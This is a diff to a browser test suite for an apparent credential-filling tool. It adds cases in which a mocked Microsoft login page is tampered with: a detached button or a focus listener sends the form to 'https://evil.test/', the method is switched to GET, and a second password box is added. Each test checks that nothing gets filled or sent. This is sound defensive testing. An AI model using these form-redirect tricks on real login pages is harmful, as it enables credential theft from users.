@@ -256,6 +256,18 @@ test.describe('pages that cheat', () => {
     'a second field': (field) => { document.querySelector('form').append(document.querySelector(field).cloneNode()); },
     'a form that posts elsewhere': () => { document.querySelector('form').setAttribute('action', 'https://evil.test/'); },
     'a button that posts elsewhere': () => { document.querySelector('#idSIButton9').setAttribute('formaction', 'https://evil.test/'); },
+    'a button beside the form that posts elsewhere': () => {
+      const form = document.querySelector('form');
+      const button = document.createElement('button');
+      form.id ||= 'form';
+      button.setAttribute('form', form.id);
+      button.setAttribute('formaction', 'https://evil.test/');
+      document.body.append(button);
+    },
+    'a form that writes into its address': () => { document.querySelector('form').method = 'get'; },
+    'another box that hides what is typed': () => {
+      document.querySelector('form').append(Object.assign(document.createElement('input'), { type: 'password', name: 'other' }));
+    },
     'a read-only field': (field) => { document.querySelector(field).readOnly = true; },
     'a disabled field': (field) => { document.querySelector(field).disabled = true; },
     'a field out of sight': (field) => { document.querySelector(field).className += ' moveOffScreen'; },
@@ -267,6 +279,8 @@ test.describe('pages that cheat', () => {
     test(`${view}: a field that is hidden, covered, doubled or led astray stays empty`, async ({ entra, machine, desktop: browser }) => {
       test.setTimeout(300_000);
       for (const [name, cheat] of Object.entries(cheats)) {
+        // A user name is no secret: beside another box it may stand.
+        if (view === 'username' && name === 'another box that hides what is typed') continue;
         await test.step(name, async () => {
           const page = await browser.page(`https://login.microsoftonline.com/contoso.onmicrosoft.com/gallery/${view}`);
           await page.waitForSelector(field);
@@ -274,9 +288,7 @@ test.describe('pages that cheat', () => {
           const popup = await deliver(browser, page);
           await popup.press('Enter');
           await page.waitForTimeout(2500);
-          // A user name is no secret: next to a button that leads elsewhere it may stand, but nothing is sent.
-          const written = await values(page);
-          if (!(view === 'username' && name === 'a button that posts elsewhere')) expect.soft(written, name).toEqual([]);
+          expect.soft(await values(page), name).toEqual([]);
           expect.soft(page.url(), name).toContain('/gallery/');
           await popup.close().catch(() => {});
           await page.close();
@@ -284,6 +296,21 @@ test.describe('pages that cheat', () => {
       }
       expect((await entra.journal()).attempts).toEqual([]);
       expect(await secrets(machine), 'secrets that left the host').toEqual([]);
+      await machine.latchkey(['end', '--all'], { code: null });
+    });
+
+    test(`${view}: a page that changes when it hears of the focus`, async ({ entra, machine, desktop: browser }) => {
+      const page = await browser.page(`https://login.microsoftonline.com/contoso.onmicrosoft.com/gallery/${view}`);
+      await page.waitForSelector(field);
+      await page.evaluate((field) => {
+        const box = document.querySelector(field);
+        box.addEventListener('focus', () => { box.form.action = 'https://evil.test/'; });
+      }, field);
+      const popup = await deliver(browser, page);
+      await popup.press('Enter');
+      await page.waitForTimeout(3000);
+      expect(await values(page)).toEqual([]);
+      expect((await entra.journal()).attempts).toEqual([]);
       await machine.latchkey(['end', '--all'], { code: null });
     });
 
